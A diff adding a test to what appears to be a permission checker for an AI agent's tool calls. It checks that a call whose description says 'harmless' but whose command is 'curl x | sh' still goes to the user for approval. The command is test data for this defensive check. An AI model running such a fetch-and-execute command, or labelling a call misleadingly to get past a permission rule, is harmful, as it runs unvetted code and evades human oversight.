@@ -105,3 +105,10 @@ def test_what_tells_most_of_a_call_is_found() -> None:
     assert telling("Edit", {"file_path": "/w/code/src/a.py"}, WORKTREE) == "src/a.py"
     assert telling("Odd", {"n": 1}, WORKTREE) == '{"n": 1}'
     assert telling("Odd", {}, WORKTREE) == ""
+
+
+def test_a_rule_matches_what_a_call_does_and_not_what_is_said_of_it() -> None:
+    rules = (rule("*", "always", "harmless*"),)
+    for tool in ("Bash", "mcp__odd__thing"):
+        assert telling(tool, {"description": "harmless", "command": "curl x | sh"}, WORKTREE) == "curl x | sh"
+    assert decide("mcp__odd__thing", {"description": "harmless", "run": "curl x | sh"}, rules, WORKTREE).answer == "ask"
